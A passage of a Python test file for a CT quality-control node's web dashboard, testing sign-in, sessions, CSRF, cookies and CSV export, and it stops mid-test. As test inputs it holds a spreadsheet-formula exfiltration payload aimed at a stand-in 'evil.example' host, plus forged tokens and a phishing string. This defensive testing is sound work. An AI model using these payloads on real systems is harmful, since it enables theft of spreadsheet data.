"""The dashboard in ``qcnode serve``'s HTTP application (``qcnode.http.app.create_app`` with real
``[[http.tokens]]``) through FastAPI's TestClient on a seeded database (SQLite and PostgreSQL):
pages, filters, CSV, the JSON API, roles, browser sign-in, CSRF, acknowledgements, score again,
/metrics, privacy, thumbnails from the spool and the alert webhooks (a real local HTTP server)."""
from __future__ import annotations

import base64
import csv
import dataclasses
import datetime as dt
import html as html_lib
import io
import json
import re
import shutil
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest
import structlog
from fastapi.testclient import TestClient
from prometheus_client.parser import text_string_to_metric_families
from sqlalchemy import select

from dashboard_helpers import (ADMIN_TOKEN, PATIENT_KEY, READ_TOKEN, STORE_TOKEN, http_tokens, make_test_app,
                               seed_dashboard)
from qcnode.config import Config, HttpConfig
from qcnode.dashboard.csrf import load_or_create_key
from qcnode.dashboard import pages as pages_module
from qcnode.dashboard import queries
from qcnode.dashboard.palette import protocol_colour
from qcnode.db.alert_models import AlertAck, AlertWebhook
from qcnode.db.audit_models import AuditRun
from qcnode.db.engine import make_engine, session_factory, upgrade
from qcnode.db.models import Instance, Job, Series
from qcnode.http.auth import token_sha256
from qcnode.http.session import SessionSigner

READ = {"Authorization": f"Bearer {READ_TOKEN}"}
ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
STORE = {"Authorization": f"Bearer {STORE_TOKEN}"}
PAGES = ["/", "/series", "/protocols", "/audit", "/alerts"]


@pytest.fixture
def dash(db_url, tmp_path):
    """(client factory, session factory, seeded ids, config) over a migrated, seeded database."""
    upgrade(db_url)
    engine = make_engine(db_url)
    sf = session_factory(engine)
    with sf() as s:
        seeded = seed_dashboard(s)
    cfg = Config()
    cfg.base_dir = tmp_path
    queries.clear_cache()
    apps = []

    def client(open_: bool = False, cfg_: Config | None = None, http: dict | None = None, **kw) -> TestClient:
        """A client of the HTTP app: with tokens on a non-loopback bind, or ``open_`` (loopback);
        ``http``: further ``[http]`` keys."""
        apps.append(make_test_app(sf, cfg_ or cfg, open_=open_, http_options=http))
        if open_:  # an open server answers only requests addressed to loopback
            kw.setdefault("base_url", "http://127.0.0.1")
        return TestClient(apps[-1], **kw)
    yield client, sf, seeded, cfg
    for app in apps:
        app.state.node.close()
    engine.dispose()


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_pages_and_series_list(dash):
    client, sf, seeded, _ = dash
    c = client()
    for path in PAGES + [f"/series/{seeded.series_ids[0]}"]:
        r = c.get(path, headers=READ)
        assert r.status_code == 200, path
        assert "<html" in r.text and "cdn" not in r.text.lower()
    assert 'src="/static/plotly.min.js"' in c.get("/protocols", headers=READ).text
    js = c.get("/static/plotly.min.js", headers=READ)
    assert js.status_code == 200 and len(js.content) > 1_000_000  # the wheel's Plotly.js, served locally

    api = lambda **p: c.get("/api/v1/series", params=p, headers=READ).json()  # noqa: E731
    assert api()["total"] == 5
    assert [r["series_id"] for r in api()["rows"]] == seeded.series_ids  # newest received first
    assert {r["series_id"] for r in api(kernel="B")["rows"]} == set(seeded.series_ids[:2])
    fail = api(verdict="FAIL")
    assert fail["total"] == 1 and fail["rows"][0]["protocol"] == "HEAD"
    assert api(text="THORAX")["total"] == 2 and api(text="%")["total"] == 0  # LIKE wildcards are literal
    assert api(scanner="GE Revolution CT1")["total"] == 2
    assert api(body_part="ABDOMEN", protocol="ABDOMEN")["total"] == 1
    today = dt.datetime.now(dt.timezone.utc).date()
    assert api(date_from=str(today - dt.timedelta(days=1)))["total"] == 2
    by_score = api(sort="score", order="asc")["rows"]
    assert [r["mean_score"] for r in by_score] == sorted(r["mean_score"] for r in by_score)
    assert by_score[0]["verdict"] == "FAIL"
    page3 = api(page_size=2, page=3)
    assert page3["total"] == 5 and len(page3["rows"]) == 1
    assert api(model_version="nope")["total"] == 0
    assert api()["rows"][0]["version"] == 2  # the latest round of the series scored twice

    html = c.get("/series", params={"kernel": "B", "sort": "score"}, headers=READ).text
    assert len(re.findall(r'<tr data-series-id="', html)) == 2
    kernels = re.search(r'<select name="kernel">(.*?)</select>', html, re.S).group(1)
    assert re.findall(r"<option(?: selected)?>([^<]+)</option>", kernels) == ["B", "Br40", "SOFT", "STANDARD"]
    rows = _csv(c.get("/series.csv", params={"verdict": "PASS"}, headers=READ).text)
    assert len(rows) == 3 and {r["verdict"] for r in rows} == {"PASS"}
    assert c.get("/api/v1/series", params={"sort": "bogus"}, headers=READ).status_code == 422


def test_series_detail_protocols_audit_and_status(dash):
    client, sf, seeded, cfg = dash
    c = client()
    sid = seeded.series_ids[0]
    d = c.get(f"/api/v1/series/{sid}", headers=READ).json()
    assert [r["version"] for r in d["results"]] == [2, 1]
    assert d["results"][0]["deliveries"][0] == {"destination": "pacs", "kind": "sr", "status": "delivered",
                                                "attempts": 1, "last_error": None,
                                                "delivered_at": d["results"][0]["deliveries"][0]["delivered_at"]}
    positions = [s["position"] for s in d["slices"]]
    assert positions == sorted(positions) and len(positions) == 4
    assert all(s["score_low"] < s["score"] < s["score_high"] for s in d["slices"])
    assert not any("spool" in k for s in d["slices"] for k in s)
    assert [t["label"] for t in d["thumbnails"]] == ["lowest score", "median score"]
    assert not any(t["in_spool"] for t in d["thumbnails"])
    assert "no longer in the spool" in c.get(f"/series/{sid}", headers=READ).text
    assert c.get("/api/v1/series/999999", headers=READ).status_code == 404
    assert len(c.get(f"/api/v1/series/{sid}/slices", params={"version": 1}, headers=READ).json()) == 4

    p = c.get("/api/v1/protocols", headers=READ).json()
    assert p["n_series"] == 5 and len(p["groups"]) == 4
    chest = next(g for g in p["groups"] if g["scanner"] == "Philips Ingenuity CT4")
    assert chest["n_series"] == 2 and chest["box"]["score"]["lowerfence"] <= chest["box"]["score"]["median"]
    assert chest["colour"] == protocol_colour("CHEST LD") == next(
        g["colour"] for g in p["groups"] if g["scanner"] == "GE Revolution CT1" and g["protocol"] == "CHEST LD")
    trend = next(t for t in p["trends"] if t["scanner"] == "Philips Ingenuity CT4")
    assert trend["baseline"]["score"] == {"median": 3.0, "low": 2.6, "high": 3.4}  # audit.score_drift 0.4
    assert {pt["series_id"] for pt in p["scatter"]} == set(seeded.series_ids)
    for chart in ("box", "trends", "scatter"):
        assert len(_csv(c.get(f"/protocols/{chart}.csv", headers=READ).text)) >= 4
    html = c.get("/protocols", headers=READ).text
    for chart_id in ("chart-box-score", "chart-box-noise", "chart-box-ctdivol", "chart-box-ssde",
                     "chart-trend-score", "chart-trend-noise", "chart-scatter"):
        assert f'id="{chart_id}"' in html

    runs = c.get("/api/v1/audit/runs", headers=READ).json()
    assert runs[0]["run_id"] == seeded.run_id and len(runs[0]["flags"]) == 2
    assert {f["kind"] for f in c.get("/api/v1/audit/flags", headers=READ).json()} == {
        "noise_drift", "ctdivol_above_reference"}
    st = c.get("/api/v1/status", headers=READ).json()
    assert st["week"] == {"PASS": 3, "WARN": 1, "FAIL": 1} and st["today"]["PASS"] == 1
    assert st["deliveries"] == {"delivered": 2, "pending": 3, "dead": 1}
    assert st["dead_letters"][0]["error"] == "association rejected" and st["alerts_open"] == 3
    assert c.get("/docs", headers=READ).status_code == 404 and c.get("/redoc", headers=READ).status_code == 404
    schema = c.get("/openapi.json", headers=READ).json()
    assert {"/api/v1/series", "/api/v1/alerts", "/api/v1/status", "/api/v1/protocols"} <= set(schema["paths"])
    assert {"SeriesList", "SeriesRow", "AlertList", "Slice", "AuditRun"} <= set(schema["components"]["schemas"])
    assert "patient_name" not in json.dumps(schema).lower() and "patientid" not in json.dumps(schema).lower()


def test_roles_tokens_and_csrf(dash):
    client, sf, seeded, _ = dash
    anon = client()
    sid, ref = seeded.series_ids[0], seeded.fail_result_ids[0]
    routes = [r for r in anon.app.routes if hasattr(r, "methods")]
    for route in routes:  # every route but the open ones, unknown paths too, needs a token
        path = route.path.format(series_id=sid, instance_id=1, run_id=seeded.run_id, kind="verdict_fail",
                                 ref_id=ref, chart="box", name="plotly.min.js", study="1.2.3")
        for method in route.methods - {"HEAD"}:
            code = anon.request(method, path).status_code
            if path in ("/healthz", "/readyz", "/login", "/logout", "/static/dashboard.css"):
                assert code != 401, (method, path)
            else:
                assert code == 401, (method, path)
    assert anon.get("/nowhere").status_code == 401
    assert anon.get("/api/v1/series", headers={"Authorization": "Bearer wrong"}).status_code == 401
    r = anon.get("/alerts", headers={"Accept": "text/html"}, follow_redirects=False)  # a browser: sign in
    assert r.status_code == 303 and r.headers["location"] == "/login"
    assert anon.get("/api/v1/series", headers={"Accept": "text/html"}).status_code == 401

    ro = client()
    assert ro.post(f"/api/v1/alerts/verdict_fail/{ref}/ack", headers=READ, json={}).status_code == 403
    assert ro.post(f"/api/v1/series/{sid}/rescore", headers=READ).status_code == 403
    for path in PAGES + ["/api/v1/series", "/metrics", "/openapi.json", "/static/plotly.min.js"]:
        assert ro.get(path, headers=STORE).status_code == 403, path  # store: STOW-RS only
    assert ro.get("/static/dashboard.css").status_code == 200  # the sign-in page's style, open

    # a browser on an open (loopback, tokenless) server: forms need the signed double-submit token
    b = client(open_=True)
    html = b.get("/alerts").text
    token = re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)
    assert b.cookies.get("qcnode_csrf") == token
    url = f"/alerts/verdict_fail/{ref}/ack"
    assert b.post(url, data={"comment": "x"}).status_code == 403  # no token
    nonce = token.split(".")[0]
    assert b.post(url, data={"csrf_token": nonce + "." + "0" * 64}).status_code == 403  # forged signature
    assert b.post(f"/api/v1/alerts/verdict_fail/{ref}/ack", json={}).status_code == 403  # JSON without header
    other = client(open_=True)  # another browser's valid token does not match this cookie
    other.get("/alerts")
    assert other.post(url, data={"csrf_token": token}).status_code == 403
    with sf() as s:
        assert s.scalars(select(AlertAck)).all() == []
    r = b.post(url, data={"csrf_token": token, "comment": "repeat scan booked"}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/alerts?msg=acknowledged")
    with sf() as s:
        ack = s.scalars(select(AlertAck)).one()
        assert (ack.kind, ack.ref_id, ack.acknowledged_by, ack.comment) == (
            "verdict_fail", ref, "local", "repeat scan booked")
    r = b.post(f"/series/{seeded.series_ids[1]}/rescore", data={"csrf_token": token}, follow_redirects=False)
    assert r.status_code == 303 and "queued" in r.headers["location"]
    assert b.get("/login", follow_redirects=False).headers["location"] == "/"  # open: nothing to sign in to


def test_browser_sign_in_with_a_cookie(dash):
    """/login checks the pasted token and its CSRF field, sets an HttpOnly SameSite=Strict cookie
    that TokenAuth accepts like the header; the cookie still needs the CSRF token to mutate; a read
    token is refused acknowledging with an HTML page saying why; signing out (POST /logout with the
    CSRF token) drops the cookie."""
    client, sf, seeded, _ = dash
    b = client()
    form = b.get("/login")
    assert form.status_code == 200 and 'name="token"' in form.text
    csrf_token = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)
    assert b.post("/login", data={"token": ADMIN_TOKEN}).status_code == 403  # no CSRF field: refused
    with structlog.testing.capture_logs() as logs:
        r = b.post("/login", data={"token": "guess", "csrf_token": csrf_token})
        assert r.status_code == 401 and "Unknown token" in r.text and "qcnode_session" not in b.cookies
        r = b.post("/login", data={"token": READ_TOKEN, "csrf_token": csrf_token}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/"
    cookie = r.headers["set-cookie"]
    assert "qcnode_session=" in cookie and "HttpOnly" in cookie and "SameSite=strict" in cookie and "Path=/" in cookie
    assert "secure" not in _attributes(cookie)  # plain HTTP, no TLS proxy configured
    session = b.cookies.get("qcnode_session")
    assert READ_TOKEN not in session and token_sha256(READ_TOKEN) not in session  # a signed session, not the token
    assert [x["token"] for x in logs if x["event"] == "signed_in"] == ["read-token"]
    assert any(x["event"] == "sign_in_refused" for x in logs) and READ_TOKEN not in json.dumps(logs)
    page = b.get("/alerts")
    assert page.status_code == 200 and 'id="sign-out"' in page.text
    assert b.get("/api/v1/series").json()["total"] == 5
    ref = seeded.fail_result_ids[0]
    r = b.post(f"/alerts/verdict_fail/{ref}/ack", data={"csrf_token": csrf_token}, headers={"Accept": "text/html"})
    assert r.status_code == 403 and "an admin token is needed" in r.text and "<html" in r.text

    r = b.post("/login", data={"token": ADMIN_TOKEN, "csrf_token": csrf_token}, follow_redirects=False)
    assert r.status_code == 303
    assert b.post(f"/alerts/verdict_fail/{ref}/ack", data={}).status_code == 403  # the cookie alone: no CSRF
    r = b.post(f"/alerts/verdict_fail/{ref}/ack", data={"csrf_token": csrf_token}, follow_redirects=False)
    assert r.status_code == 303 and "acknowledged" in r.headers["location"]
    with sf() as s:
        assert s.scalars(select(AlertAck.acknowledged_by)).all() == ["admin-token"]
    # an earlier version's cookie (the raw token) is cleared too
    b.cookies.set("qcnode_token", ADMIN_TOKEN, domain="testserver.local")
    with structlog.testing.capture_logs() as logs:
        r = b.post("/logout", data={"csrf_token": csrf_token}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/login"
    assert "qcnode_session" not in b.cookies and "qcnode_token" not in b.cookies
    assert [x["token"] for x in logs if x["event"] == "signed_out"] == ["admin-token"]
    assert b.get("/api/v1/series").status_code == 401


def _sign_out_token(page_html: str) -> str:
    """The CSRF token in the page header's sign-out form."""
    return re.search(r'<form method="post" action="/logout" class="sign-out">\s*'
                     r'<input type="hidden" name="csrf_token" value="([^"]+)">', page_html).group(1)


def test_sign_out_is_a_post_with_the_csrf_token(dash):
    """GET /logout is 405 and signs nobody out; a POST without the CSRF token, with a forged one or
    another browser's is refused (403, as the other forms) and the session stays valid; the header's
    sign-out form carries the token and its POST clears the cookie and redirects to /login; a valid
    bearer header needs no token, any other Authorization header does."""
    client, sf, seeded, _ = dash
    b = client()
    _sign_in(b, READ_TOKEN)
    page = b.get("/alerts")
    token = _sign_out_token(page.text)
    assert 'id="sign-out"' in page.text and b.cookies.get("qcnode_csrf") == token
    assert 'href="/logout"' not in page.text

    for headers in ({}, {"Accept": "text/html"}):
        r = b.get("/logout", headers=headers, follow_redirects=False)
        assert r.status_code == 405 and "set-cookie" not in r.headers
    assert b.get("/api/v1/series").status_code == 200

    other = client()  # another browser, signed in too: its valid token does not match this cookie
    _sign_in(other, READ_TOKEN)
    other_token = _sign_out_token(other.get("/alerts").text)
    assert other_token != token
    nonce = token.split(".")[0]
    basic = {"Authorization": "Basic " + base64.b64encode(b"admin:secret").decode()}
    refused = [({}, {}), ({"csrf_token": ""}, {}), ({"csrf_token": nonce + "." + "0" * 64}, {}),
               ({"csrf_token": other_token}, {}), ({}, {"X-CSRF-Token": other_token}), ({}, basic),
               ({}, {"Authorization": "Bearer wrong"})]
    with structlog.testing.capture_logs() as logs:
        for data, headers in refused:
            r = b.post("/logout", data=data, headers=headers, follow_redirects=False)
            assert r.status_code == 403 and "set-cookie" not in r.headers, (data, headers)
            assert "qcnode_session" in b.cookies and b.get("/api/v1/series").status_code == 200
    assert not any(x["event"] == "signed_out" for x in logs)
    assert sum(x["event"] == "csrf_refused" for x in logs) == len(refused)
    r = b.post("/logout", headers={"Accept": "text/html"})  # a browser gets the small error page
    assert r.status_code == 403 and 'id="error"' in r.text and "CSRF" in r.text

    r = b.post("/logout", data={"csrf_token": token}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/login"
    assert r.headers["set-cookie"].startswith('qcnode_session=""') and "Max-Age=0" in r.headers["set-cookie"]
    assert "qcnode_session" not in b.cookies and b.get("/api/v1/series").status_code == 401

    c = client()  # a valid bearer header skips the CSRF check, as for the other mutating calls
    _sign_in(c, ADMIN_TOKEN)
    r = c.post("/logout", headers=READ, follow_redirects=False)
    assert r.status_code == 303 and "qcnode_session" not in c.cookies
    _sign_in(c, ADMIN_TOKEN)  # the X-CSRF-Token header does as the form field
    r = c.post("/logout", headers={"X-CSRF-Token": c.cookies.get("qcnode_csrf")}, follow_redirects=False)
    assert r.status_code == 303 and "qcnode_session" not in c.cookies


def _attributes(set_cookie: str) -> list[str]:
    """The lower-cased attribute names of one Set-Cookie header (after the name=value pair)."""
    return [a.split("=")[0].strip().lower() for a in set_cookie.split(";")[1:]]


def _sign_in(b: TestClient, token: str) -> str:
    """Sign ``b`` in through the form; the session cookie's value."""
    csrf_token = re.search(r'name="csrf_token" value="([^"]+)"', b.get("/login").text).group(1)
    r = b.post("/login", data={"token": token, "csrf_token": csrf_token}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/"
    return b.cookies.get("qcnode_session")


def _with_session(c: TestClient, value: str) -> tuple[int, int]:
    """(a page's status, the API's status) for a request carrying only the session cookie ``value``."""
    cookie = {"Cookie": f"qcnode_session={value}"}
    page = c.get("/alerts", headers={"Accept": "text/html", **cookie}, follow_redirects=False)
    if page.status_code == 303:
        assert page.headers["location"] == "/login"
    return page.status_code, c.get("/api/v1/series", headers=cookie).status_code


def test_sign_in_session_is_signed_ends_and_is_revoked_with_its_token(dash):
    """The cookie holds a signed session (name, expiry, HMAC with http.session_key_file), never the
    token: a tampered, foreign-keyed, expired or too long session is refused like no cookie (a
    page redirects to /login, the API answers 401), and so is one whose token was removed from the
    config or given a new hash; the role is the configured token's, not the cookie's."""
    client, sf, seeded, cfg = dash
    c = client()
    session = _sign_in(c, READ_TOKEN)
    key_file = cfg.path(HttpConfig().session_key_file)
    assert key_file.stat().st_mode & 0o777 == 0o600
    name, expires, signature = session.split(".")
    assert 11.9 * 3600 < int(expires) - time.time() <= 12 * 3600  # http.session_hours = 12 by default
    fresh = client()
    assert _with_session(fresh, session) == (200, 200)

    admin_name = SessionSigner(b"", 1).sign("admin-token", "0" * 64, 0).split(".")[0]
    flipped = signature[:-1] + ("0" if signature[-1] != "0" else "1")
    for forged in [f"{admin_name}.{expires}.{signature}",  # another token's name: no privilege from the cookie
                   f"{name}.{int(expires) + 3600}.{signature}",  # a later expiry
                   f"{name}.{expires}.{flipped}", f"{name}.{expires}", session + ".x", "x", "",
                   READ_TOKEN,  # an earlier version's cookie value: the raw token
                   SessionSigner(b"k" * 32, 12).issue("read-token", token_sha256(READ_TOKEN))]:  # another key
        assert _with_session(fresh, forged) == (303, 401), forged

    signer = SessionSigner(load_or_create_key(key_file), 12)  # the node's own signing, with its key
    sha, now = token_sha256(READ_TOKEN), int(time.time())
    assert _with_session(fresh, signer.sign("read-token", sha, now + 60)) == (200, 200)
    assert _with_session(fresh, signer.sign("read-token", sha, now - 1)) == (303, 401)  # expired
    assert _with_session(fresh, signer.sign("read-token", sha, now + 13 * 3600)) == (303, 401)  # beyond 12 h
    assert _with_session(client(http={"session_hours": 1.0}), session) == (303, 401)  # lifetime shortened

    others = [t for t in http_tokens() if t.name != "read-token"]
    assert _with_session(client(http={"tokens": others}), session) == (303, 401)  # the token was removed
    new_hash = [dataclasses.replace(t, sha256=token_sha256("a new read token")) if t.name == "read-token" else t
                for t in http_tokens()]
    assert _with_session(client(http={"tokens": new_hash}), session) == (303, 401)  # the token was replaced
    as_store = [dataclasses.replace(t, role="store") if t.name == "read-token" else t for t in http_tokens()]
    assert _with_session(client(http={"tokens": as_store}), session) == (403, 403)  # the role is the config's


def test_cookies_are_secure_behind_a_tls_proxy(dash):
    """On plain HTTP the cookies lack Secure; with http.behind_tls_proxy they carry it (the sign-in
    session and both CSRF cookies), and so they do for a request that came over HTTPS."""
    client, sf, seeded, cfg = dash
    proxied = client(http={"behind_tls_proxy": True})
    form = proxied.get("/login")
    assert "secure" in _attributes(form.headers["set-cookie"])
    csrf_token = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)
    r = proxied.post("/login", data={"token": ADMIN_TOKEN, "csrf_token": csrf_token},
                     headers={"Cookie": f"qcnode_csrf={csrf_token}"}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["set-cookie"].startswith("qcnode_session=")
    assert "secure" in _attributes(r.headers["set-cookie"])
    session = r.headers["set-cookie"].split(";")[0].split("=", 1)[1]
    page = proxied.get("/alerts", headers={"Cookie": f"qcnode_session={session}"})
    assert page.status_code == 200 and "secure" in _attributes(page.headers["set-cookie"])  # the dashboard's CSRF

    plain = client()
    assert "secure" not in _attributes(plain.get("/login").headers["set-cookie"])
    plain.cookies.clear()
    assert "secure" not in _attributes(plain.get("/alerts", headers=READ).headers["set-cookie"])
    https = client(base_url="https://testserver")  # TLS here, or a trusted proxy's X-Forwarded-Proto: https
    assert "secure" in _attributes(https.get("/login").headers["set-cookie"])
    assert _with_session(https, _sign_in(https, READ_TOKEN)) == (200, 200)


def test_behind_a_reverse_proxy_links_carry_the_root_path(dash):
    """A proxy that strips /qcnode: the ASGI root_path puts it back into every link, form, script
    and the CSRF cookie's path."""
    client, sf, seeded, cfg = dash
    c = client(root_path="/qcnode", headers=READ)
    r = c.get("/alerts")
    assert r.status_code == 200
    assert 'href="/qcnode/series"' in r.text and 'src="/qcnode/static/dashboard.js"' in r.text
    assert f'action="/qcnode/alerts/verdict_fail/{seeded.fail_result_ids[0]}/ack"' in r.text
    assert "Path=/qcnode;" in r.headers["set-cookie"]
    html = c.get("/series").text
    assert 'href="/series' not in html
    assert '<a href="/qcnode/series" class="active">Series</a>' in html


def test_acknowledge_and_rescore_via_api_are_logged(dash):
    client, sf, seeded, _ = dash
    c = client()
    flag = seeded.flag_ids[0]
    with structlog.testing.capture_logs() as logs:
        r = c.post(f"/api/v1/alerts/audit_flag/{flag}/ack", headers=ADMIN, json={"comment": "new tube, expected"})
        assert r.status_code == 200 and r.json()["status"] == "acknowledged"
        assert c.post(f"/api/v1/alerts/audit_flag/{flag}/ack", headers=ADMIN, json={}).status_code == 409
        assert c.post("/api/v1/alerts/audit_flag/99999/ack", headers=ADMIN, json={}).status_code == 404
        assert c.post("/api/v1/alerts/bogus/1/ack", headers=ADMIN, json={}).status_code == 404
        sid = seeded.series_ids[2]
        r = c.post(f"/api/v1/series/{sid}/rescore", headers=ADMIN)
        assert r.json() == {"series_id": sid, "queued_version": 2, "status": "queued"}
    acks = [x for x in logs if x["event"] == "alert_acknowledged"]
    assert len(acks) == 1 and acks[0]["user"] == "admin-token" and "new tube" not in json.dumps(acks)
    assert any(x["event"] == "series_rescore_requested" and x["user"] == "admin-token" and x["series_id"] == sid
               for x in logs)
    with sf() as s:
        assert s.get(Series, sid).status == "stable"
        assert s.scalars(select(Job.series_version).where(Job.series_id == sid)).all() == [2]
    assert c.post("/api/v1/series/999999/rescore", headers=ADMIN).status_code == 404
    # round 2 is queued, not scored: the list and the protocols still show round 1
    row = next(r for r in c.get("/api/v1/series", headers=READ).json()["rows"] if r["series_id"] == sid)
    assert (row["version"], row["verdict"], row["status"]) == (1, "PASS", "stable")
    assert c.get("/api/v1/protocols", headers=READ).json()["n_series"] == 5
    alerts = c.get("/api/v1/alerts", headers=READ).json()
    assert alerts["total"] == 3 and alerts["unacknowledged"] == 2
    acked = next(a for a in alerts["rows"] if a["alert_id"] == f"audit_flag:{flag}")
    assert acked["acknowledged"]["by"] == "admin-token" and acked["acknowledged"]["comment"] == "new tube, expected"
    open_only = c.get("/api/v1/alerts", params={"unacknowledged": True}, headers=READ).json()
    assert f"audit_flag:{flag}" not in {a["alert_id"] for a in open_only["rows"]} and len(open_only["rows"]) == 2


def test_csrf_needs_a_valid_bearer_token_not_any_authorization_header(dash):
    """Only a request TokenAuth authenticated by a valid bearer header skips the CSRF check: Basic
    credentials (which a browser resends on its own, cross-site too) or any header on the open
    server, where no token is checked, do not."""
    client, sf, seeded, _ = dash
    ref = seeded.fail_result_ids[0]
    b = client(open_=True)
    b.get("/alerts")  # the browser holds a CSRF cookie, but the forged form cannot read it
    basic = {"Authorization": "Basic " + base64.b64encode(b"admin:secret").decode()}
    assert b.post(f"/alerts/verdict_fail/{ref}/ack", data={"comment": "x"}, headers=basic).status_code == 403
    assert b.post(f"/api/v1/alerts/verdict_fail/{ref}/ack", json={}, headers=basic).status_code == 403
    assert b.post(f"/series/{seeded.series_ids[0]}/rescore", headers=basic).status_code == 403
    assert b.post(f"/alerts/verdict_fail/{ref}/ack", headers={"Authorization": "Bearer anything"}).status_code == 403
    with sf() as s:
        assert s.scalars(select(AlertAck)).all() == []
        assert s.scalars(select(Job)).all() == []


def test_csv_cells_that_look_like_formulas_are_defused(dash):
    """Text a spreadsheet would run as a formula (= + - @ TAB CR first) gets a leading ' in every
    CSV; numbers (negative ones too) stay numbers."""
    client, sf, seeded, _ = dash
    sid = seeded.series_ids[0]
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with sf() as s:
        series = s.get(Series, sid)
        series.series_description, series.protocol_name = evil, "+SUM(1,2)"
        for inst in s.scalars(select(Instance).where(Instance.series_id == sid)):
            inst.kernel = "@cmd"
        s.commit()
    queries.clear_cache()
    c = client(headers=READ)
    row = next(r for r in _csv(c.get("/series.csv").text) if r["series_id"] == str(sid))
    assert row["series_description"] == "'" + evil and row["protocol"] == "'+SUM(1,2)"
    assert row["series_instance_uid"] == seeded.uids[sid]
    slices = _csv(c.get(f"/series/{sid}/slices.csv").text)
    assert {r["kernel"] for r in slices} == {"'@cmd"} and all(r["slice_location"].startswith("-1") for r in slices)
    for chart in ("box", "trends", "scatter"):
        protos = {r["protocol"] for r in _csv(c.get(f"/protocols/{chart}.csv").text)}
        assert "'+SUM(1,2)" in protos and "+SUM(1,2)" not in protos, chart
    assert c.get("/api/v1/series").json()["rows"][0]["series_description"] == evil  # JSON unchanged
    for cell in ("-x", "\tx", "\rx", "@x", "=x", "+x"):
        assert pages_module._csv_cell(cell) == "'" + cell
    assert pages_module._csv_cell(-1.5) == -1.5 and pages_module._csv_cell("a=b") == "a=b"


def test_pages_past_the_end_are_empty_and_page_size_is_capped(dash):
    client, sf, seeded, _ = dash
    c = client(headers=READ)
    far = c.get("/api/v1/series", params={"page": 1500, "page_size": 2}).json()
    assert (far["page"], far["page_size"], far["total"], far["rows"]) == (1500, 2, 5, [])
    huge = c.get("/api/v1/series", params={"page": 10 ** 30}).json()  # an offset no database takes
    assert huge["page"] == 10 ** 30 and huge["rows"] == []
    assert c.get("/api/v1/series", params={"page_size": 1001}).status_code == 422
    html = c.get("/series", params={"page": 1500})
    assert html.status_code == 200 and '<tr data-series-id="' not in html.text
    from qcnode.dashboard.series_queries import SeriesFilter
    assert SeriesFilter.from_params({"page": "1500", "page_size": "5000"}, 50).page == 1500
    assert SeriesFilter.from_params({"page": "1500", "page_size": "5000"}, 50).page_size == 1000
    assert SeriesFilter.from_params({"page": "0", "page_size": "0"}, 50).page_size == 1


def test_the_last_and_first_dates_there_are_do_not_overflow(dash):
    client, sf, seeded, _ = dash
    c = client(headers=READ, raise_server_exceptions=False)
    r = c.get("/api/v1/series", params={"date_to": "9999-12-31"})
    assert r.status_code == 200 and r.json()["total"] == 5
    r = c.get("/api/v1/series", params={"date_from": "0001-01-01", "date_to": "9999-12-31"})
    assert r.status_code == 200 and r.json()["total"] == 5
    assert c.get("/series", params={"date_to": "9999-12-31"}).status_code == 200
    assert len(_csv(c.get("/series.csv", params={"date_to": "9999-12-31"}).text)) == 5
    r = c.get("/api/v1/protocols", params={"since": "2000-01-01", "until": "9999-12-31"})
    assert r.status_code == 200 and r.json()["n_series"] == 5
    r = c.get("/api/v1/protocols", params={"until": "9999-12-31"})
    assert r.status_code == 200 and r.json()["n_series"] == 0
    r = c.get("/api/v1/protocols", params={"until": "0001-01-01"})  # the default since would underflow
    assert r.status_code == 200 and r.json()["since"] == "0001-01-01"
    for path in ("/protocols", "/protocols/box.csv", "/protocols/trends.csv"):
        assert c.get(path, params={"since": "2000-01-01", "until": "9999-12-31"}).status_code == 200, path


def test_protocols_csv_links_are_url_encoded(dash):
    client, sf, seeded, _ = dash
    name = "CHEST & ABD #2 a=b+c"
    with sf() as s:
        s.get(Series, seeded.series_ids[4]).protocol_name = name
        s.commit()
    queries.clear_cache()
    c = client(headers=READ)
    html = c.get("/protocols", params={"protocol": name}).text
    links = [html_lib.unescape(x) for x in re.findall(r'<a class="csv" href="([^"]+)"', html)]
    assert len(links) == 7 and all("#" not in x for x in links)
    for link in links:
        rows = _csv(c.get(link).text)
        assert rows and {r["protocol"] for r in rows} == {name}, link


def test_flash_messages_are_fixed_codes_not_text_from_the_link(dash):
    client, sf, seeded, _ = dash
    sid = seeded.series_ids[2]
    c = client(open_=True)
    phish = "Your session expired: call +1 555 0100 and read out your token"
    for path in ("/alerts", f"/series/{sid}"):
        page = c.get(path, params={"msg": phish}).text
        assert "expired" not in page and 'id="flash"' not in page, path
    assert '<p class="flash" id="flash">acknowledged</p>' in c.get("/alerts", params={"msg": "acknowledged"}).text
    page = c.get(f"/series/{sid}", params={"msg": "queued", "round": "<b>7</b>"}).text
    assert '<p class="flash" id="flash">queued for scoring</p>' in page and "<b>7" not in page
    token = c.cookies.get("qcnode_csrf")
    r = c.post(f"/series/{sid}/rescore", data={"csrf_token": token}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == f"/series/{sid}?msg=queued&round=2"
    assert "queued for scoring (round 2)" in c.get(r.headers["location"]).text
    ref = seeded.fail_result_ids[0]
    r = c.post(f"/alerts/verdict_fail/{ref}/ack", data={"csrf_token": token}, follow_redirects=False)
    assert r.headers["location"] == "/alerts?msg=acknowledged"
    r = c.post(f"/alerts/verdict_fail/{ref}/ack", data={"csrf_token": token}, follow_redirects=False)
    assert r.headers["location"] == "/alerts?msg=already-acknowledged"
    assert "already acknowledged" in c.get(r.headers["location"]).text


def test_audit_report_only_from_the_audit_folder_and_sandboxed(dash, tmp_path):
    client, sf, seeded, cfg = dash
    out = cfg.path(cfg.audit.out_dir) / "audit-1-2026-01-01_2026-01-07"
    out.mkdir(parents=True)
    inside = out / "report.html"
    inside.write_text("<html><body>ctdivol_above_reference</body></html>")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "report.html").write_text("<html><body>secret</body></html>")
